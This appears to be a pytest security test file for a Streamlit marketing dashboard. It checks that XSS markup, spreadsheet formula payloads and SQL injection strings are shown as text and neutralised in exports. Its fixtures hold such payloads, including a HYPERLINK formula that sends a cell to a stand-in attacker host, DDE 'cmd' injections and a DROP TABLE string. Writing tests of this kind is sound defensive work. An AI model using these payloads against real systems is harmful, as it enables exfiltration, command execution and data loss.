"""Issue 7, safe display and exports: user text (KOL names, campaigns, titles, notes) that looks like HTML,
script or a spreadsheet formula is shown as text on every page and in every export; filter values from the
URL are data, never SQL. AppTest for every page, a real browser for script execution, and every CSV/XLSX the
pages offer for download captured and inspected.
"""

from __future__ import annotations

import csv
import io
import shutil

import openpyxl
import pytest
from conftest import ROOT, app_test
from relkit import csv_bytes, schema

from smm import store
from smm.ingest import LoadOptions, ingest_bytes

pytestmark = pytest.mark.usefixtures("clear_streamlit_caches")

XSS_SCRIPT = "<script>alert(1)</script>"
XSS_IMG = '<img src=x onerror="window.__smm_xss=1">'
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click me")'
CMD = "+cmd|' /C calc'!A0"
AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
EVIL = (XSS_SCRIPT, XSS_IMG, FORMULA, CMD, AT_SUM)
PAGES = [p for p in ("pages/overview.py", "pages/content.py", "pages/kol.py", "pages/budget.py", "pages/data.py")
         if (ROOT / p).exists()]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def _evil_rows() -> bytes:
    header = ["platform", "date", "campaign", "kol", "content_title", "content_type", "spend", "impressions",
              "clicks", "likes", "comments", "shares", "follows"]
    rows = []
    for d in range(16, 23):                       # the sample's last complete week: the default date range
        for i, (camp, kol, title) in enumerate([(XSS_SCRIPT, XSS_IMG, FORMULA), (CMD, XSS_SCRIPT, AT_SUM),
                                                (AT_SUM, FORMULA, XSS_IMG)]):
            rows.append(["weibo", f"2026-11-{d}", camp, kol, title, "video", str(1000 + 10 * i), "50000", "900",
                         "700", "80", "40", "-12.5" if i == 0 else "15"])
    return csv_bytes(rows, header)


def _evil_roster() -> bytes:
    return csv_bytes([[name, "weibo", "120000", "20000", "2", "beauty"] for name in EVIL],
                     ["kol", "platform", "followers", "fee", "posts", "category"])


@pytest.fixture(scope="module")
def evil_master(sample_db_master, tmp_path_factory):
    db = tmp_path_factory.mktemp("evil") / "evil.duckdb"
    shutil.copy(sample_db_master, db)
    con = store.connect(db)
    for name, data in (("evil_weibo_week.csv", _evil_rows()), ("evil_roster.csv", _evil_roster())):
        r = ingest_bytes(con, data, name, LoadOptions())
        assert r.status == "loaded", (name, r.status, r.errors[:3])
    con.execute("CHECKPOINT")
    con.close()
    return db


@pytest.fixture
def evil_db(evil_master, tmp_path, monkeypatch):
    db = tmp_path / "evil.duckdb"
    shutil.copy(evil_master, db)
    monkeypatch.setenv("SMM_DB", str(db))
    return db


def _nodes(at):
    return [n for n in at._tree if getattr(n, "type", None)]


def _raw_html(at) -> list[str]:
    """Every piece of HTML the page asks the browser to render unescaped."""
    out = []
    for n in _nodes(at):
        proto = getattr(n, "proto", None)
        if n.type == "html" or (proto is not None and getattr(proto, "allow_html", False)):
            out.append(getattr(proto, "body", "") or "")
    return out


def _shown_text(at) -> str:
    """Text the page shows: markdown and alerts, widget labels and options, table cells."""
    parts = []
    for n in _nodes(at):
        for attr in ("value", "label", "body"):
            v = getattr(n, attr, None) if attr != "value" or n.type not in ("button", "download_button") else None
            if isinstance(v, str):
                parts.append(v)
        opts = getattr(n, "options", None)
        if isinstance(opts, list | tuple):
            parts.extend(map(str, opts))
    for df in at.dataframe:
        parts.append(df.value.to_csv())
    return "\n".join(parts)


def test_html_and_script_in_user_text_are_shown_as_text_on_every_page(evil_db):
    shown = []
    for page in PAGES:
        at = app_test().run()
        if page != "pages/overview.py":
            at.switch_page(page).run()
        assert not at.exception, (page, at.exception[0].value[:500] if at.exception else "")
        for html in _raw_html(at):
            for evil in EVIL:
                assert evil not in html, f"{page}: user text inside raw HTML: {html[:200]}"
            assert "onerror" not in html and "<script" not in html.lower(), (page, html[:200])
        shown.append(_shown_text(at))
        # The shared KOL filter lists them verbatim (as option text, not markup).
        kols = at.sidebar.multiselect(key="kols").options
        assert XSS_SCRIPT in kols and XSS_IMG in kols, kols[:10]
    everything = "\n".join(shown)
    for evil in (XSS_SCRIPT, XSS_IMG):
        assert evil in everything   # shown, as text, not stripped


class _Recorder:
    files: list[tuple[bytes, str, str | None]] = []


def _record_downloads(monkeypatch):
    """Keep every file a page hands to the media manager (st.download_button data)."""
    from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage
    from streamlit.testing.v1 import app_test as app_test_module

    class Recording(MemoryMediaFileStorage):
        def load_and_get_id(self, path_or_data, mimetype, kind, filename=None):
            if isinstance(path_or_data, bytes | bytearray):
                _Recorder.files.append((bytes(path_or_data), mimetype, filename))
            return super().load_and_get_id(path_or_data, mimetype, kind, filename)

    _Recorder.files = []
    monkeypatch.setattr(app_test_module, "MemoryMediaFileStorage", Recording)
    return _Recorder.files


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return text.strip() == text


def _check_csv(data: bytes, name: str) -> list[str]:
    cells = [c for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for c in row]
    bad = [c for c in cells if c.startswith(TRIGGERS) and not _is_number(c)]
    assert not bad, f"{name}: cells a spreadsheet would run as formulas: {bad[:5]}"
    return cells


def _check_xlsx(data: bytes, name: str) -> list[str]:
    wb = openpyxl.load_workbook(io.BytesIO(data))
    cells = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", f"{name}: formula cell {c.coordinate} = {c.value!r}"
                if isinstance(c.value, str):
                    assert not c.value.startswith(TRIGGERS) or _is_number(c.value), (name, c.coordinate, c.value)
                    cells.append(c.value)
    return cells


def test_every_export_neutralises_formulas_and_keeps_user_text(evil_db, monkeypatch):
    files = _record_downloads(monkeypatch)
    for page in PAGES:
        at = app_test().run()
        if page != "pages/overview.py":
            at.switch_page(page).run()
        assert not at.exception, page
    # The Data page's rejected-rows CSV: a file whose bad rows carry formula text.
    at = app_test().run()
    at.switch_page("pages/data.py").run()
    bad_rows = csv_bytes([["weibo", "2026-11-20", FORMULA, CMD, "-5", "100", "1"],
                          ["weibo", "2026-11-21", AT_SUM, XSS_SCRIPT, "abc", "100", "1"]],
                         ["platform", "date", "campaign", "kol", "spend", "impressions", "clicks"])
    at.file_uploader(key="uploader").set_value([("bad_rows.csv", bad_rows, "text/csv")]).run()
    assert not at.exception
    assert files, "no page offered a download"
    seen_text: list[str] = []
    kinds = set()
    for data, mime, name in files:
        label = name or mime
        if data[:2] == b"PK":
            seen_text += _check_xlsx(data, label)
            kinds.add("xlsx")
        elif "csv" in (mime or "") or (name or "").endswith(".csv"):
            seen_text += _check_csv(data, label)
            kinds.add("csv")
    assert kinds == {"csv", "xlsx"}, kinds
    joined = "\n".join(seen_text)
    # The user's text is all there, as text: formulas behind a leading apostrophe, markup verbatim.
    assert "'" + FORMULA in joined and "'" + CMD in joined and "'" + AT_SUM in joined
    assert XSS_SCRIPT in joined


def test_real_numbers_stay_numbers_in_exports():
    import pandas as pd

    from smm.export import to_csv_bytes, to_xlsx_bytes

    df = pd.DataFrame({"kol": [FORMULA, "-12.5", " -3"], "follows": [-12.5, 3.0, -0.25],
                       "note": ["-", "+", "@"]})
    text = to_csv_bytes(df).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[1] == ["'" + FORMULA, "-12.5", "'-"]
    assert rows[2][1] == "3.0" and rows[3][0] == " -3"  # a leading space already makes it text
    ws = openpyxl.load_workbook(io.BytesIO(to_xlsx_bytes(df))).active
    assert [c.value for c in ws["B"][1:]] == [-12.5, 3.0, -0.25]
    assert all(c.data_type == "n" for c in ws["B"][1:])
    assert ws["A2"].value == "'" + FORMULA and ws["A2"].data_type == "s"


def test_download_buttons_only_offer_files_made_by_the_neutralising_exporters():
    """Static rule: every st.download_button's data comes from smm.export (or a helper built on it)."""
    import ast

    # charts_zip holds PNG pictures: no cell a spreadsheet could run.
    allowed = {"to_csv_bytes", "to_xlsx_bytes", "template_csv", "template_xlsx", "table_csv", "rejected_csv",
               "charts_zip"}
    bad = []
    for f in sorted([ROOT / "app.py", *(ROOT / "pages").glob("*.py"), *(ROOT / "smm").rglob("*.py")]):
        for node in ast.walk(ast.parse(f.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Call) and getattr(node.func, "attr", getattr(node.func, "id", "")) == \
                    "download_button":
                data = node.args[1] if len(node.args) > 1 else next((k.value for k in node.keywords
                                                                     if k.arg == "data"), None)
                if isinstance(data, ast.Lambda):     # deferred: made when the button is clicked
                    data = data.body
                fn = data.func if isinstance(data, ast.Call) else data
                name = getattr(fn, "attr", getattr(fn, "id", ""))
                if name not in allowed:
                    bad.append(f"{f.relative_to(ROOT)}:{node.lineno}: {ast.unparse(data)[:80]}")
    assert not bad, bad
    # and the helpers on that list really go through smm.export
    import inspect

    from smm import overview, templates

    assert "to_csv_bytes" in inspect.getsource(overview.table_csv)
    assert "to_csv_bytes" in inspect.getsource(templates.template_csv)


def test_filter_values_from_the_url_are_data_not_sql(evil_db):
    con = store.connect(evil_db)
    before = (schema(con), store.table_fingerprint(con))
    con.close()
    at = app_test(platforms="' OR 1=1 --", kols=["'; DROP TABLE fact; --", XSS_SCRIPT],
                  campaigns="\" OR \"\"=\"", dates=["2026-11-16", "2026-11-22"], cur="CNY'; --").run()
    assert not at.exception
    # Unknown values are not selected; a real (if odd) KOL name is, and filters the data by equality.
    assert at.sidebar.multiselect(key="platforms").value == []
    assert at.sidebar.multiselect(key="kols").value == [XSS_SCRIPT]
    assert at.sidebar.selectbox(key="cur").value == "CNY"
    for page in PAGES[1:]:
        at.switch_page(page).run()
        assert not at.exception, page
    from smm import queries, ui

    cur = ui._root(str(evil_db)).cursor()
    inj = queries.totals(cur, queries.Filters(platforms=("' OR 1=1 --",), currency="CNY"))
    assert inj["rows"] == 0
    one = queries.totals(cur, queries.Filters(kols=(XSS_SCRIPT,), currency="CNY"))
    assert one["rows"] == 7 and one["spend"] == 7 * 1010.0
    assert (schema(cur), store.table_fingerprint(cur)) == before


@pytest.mark.browser
def test_no_script_runs_in_a_real_browser_on_any_page(evil_master, tmp_path, browser):
    from conftest import StreamlitServer, screenshot, wait_idle

    db = tmp_path / "evil.duckdb"
    shutil.copy(evil_master, db)
    server = StreamlitServer(db)
    try:
        ctx = browser.new_context(viewport={"width": 1600, "height": 1000}, locale="en-US")
        page = ctx.new_page()
        page.set_default_timeout(120_000)
        dialogs = []
        page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
        for url in ("/", "/content", "/kol", "/budget", "/data"):
            page.goto(server.url + url + "?lang=en")
            wait_idle(page)
            page.wait_for_timeout(500)
            assert page.evaluate("window.__smm_xss") is None, f"{url}: an onerror handler from user text ran"
            assert page.locator('img[src="x"]').count() == 0, url
            assert not dialogs, (url, dialogs)
        # The KOL filter lists the names as text.
        page.goto(server.url + "/kol?lang=en")
        wait_idle(page)
        page.locator('[data-testid="stSidebar"] [data-testid="stExpander"] summary', has_text="More filters").click()
        wait_idle(page)
        box = page.locator('[data-testid="stSidebar"] [data-testid="stMultiSelect"]', has_text="KOL").first
        # Type a search into the box itself and read the options it leaves. Keys typed at the page land on the
        # body when the box is not focused yet: there Streamlit's "r" shortcut reruns the app and closes the
        # list (seen on a loaded CI machine: every name, "Select 3 matches", then no list). At most three tries.
        from playwright.sync_api import expect

        for attempt in range(3):
            wait_idle(page)
            box.locator("input").click()
            box.locator("input").press_sequentially("onerror")
            try:
                expect(page.get_by_role("option")).to_have_text([XSS_IMG], timeout=15_000)
                break
            except AssertionError:
                if attempt == 2:
                    raise
                page.keyboard.press("Escape")
                box.locator("input").fill("")
        assert page.evaluate("window.__smm_xss") is None and not dialogs
        screenshot(page, "security_kol_names_as_text")
        ctx.close()
    finally:
        server.stop()
